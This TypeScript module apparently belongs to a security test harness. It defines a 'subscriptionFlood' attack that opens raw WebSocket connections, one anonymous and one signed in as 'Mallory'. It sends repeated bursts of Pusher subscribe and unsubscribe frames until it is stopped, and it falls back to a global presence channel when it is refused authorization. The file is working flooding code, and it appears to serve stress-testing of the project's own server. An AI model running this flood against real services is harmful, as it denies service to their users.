import * as v from 'valibot';
import { clientFrame } from '../../channels/client-frame.ts';
import type { Attack } from '../attack.ts';
import { createLine, type Line } from '../network.ts';
import { signInAs } from '../person.ts';
import { openRawSocket } from '../raw-socket.ts';

const Authorization = v.looseObject({ auth: v.string() });

/** Subscribes and unsubscribes without pause, on one anonymous connection and on one that is signed in. */
export const subscriptionFlood: Attack = async ({ url, key, signal }) => {
  const line = createLine(signal);
  const mallory = await signInAs(url, 'Mallory');
  const anonymous = async () => ({ channel: 'news' });
  const signedIn = async (socketId: string) => {
    const channel = 'presence-chapter-1';
    const fields = {
      socket_id: socketId,
      channel_name: channel,
      course_id: 'demo',
      chapter_id: '1',
    };
    const signed = v.parse(Authorization, await mallory.sign('/auth', fields));
    return { channel, ...signed };
  };
  const counts = await Promise.all(
    [anonymous, signedIn].map((subscription) => flood(url, key, signal, line, subscription)),
  );
  return `${counts.join(' and ')} messages`;
};

async function flood(
  url: string,
  key: string,
  signal: AbortSignal,
  line: Line,
  subscription: (socketId: string) => Promise<{ channel: string }>,
): Promise<number> {
  let sent = 0;
  while (!signal.aborted) {
    const { socket, id } = await openRawSocket(url, key);
    // Being refused the way in is an answer: the flood goes on without it.
    const data = await subscription(id ?? '1.1').catch(() => ({ channel: 'presence-global' }));
    const { channel } = data;
    const pair = [
      clientFrame(JSON.stringify({ event: 'pusher:subscribe', data })),
      clientFrame(JSON.stringify({ event: 'pusher:unsubscribe', data: { channel } })),
    ];
    // Ten pairs a write, as a client would whose packets are full.
    const burst = Buffer.concat(Array<Buffer[]>(10).fill(pair).flat());
    while (socket.writable && !signal.aborted) {
      await line.write(socket, burst);
      sent += 20;
    }
  }
  return sent;
}
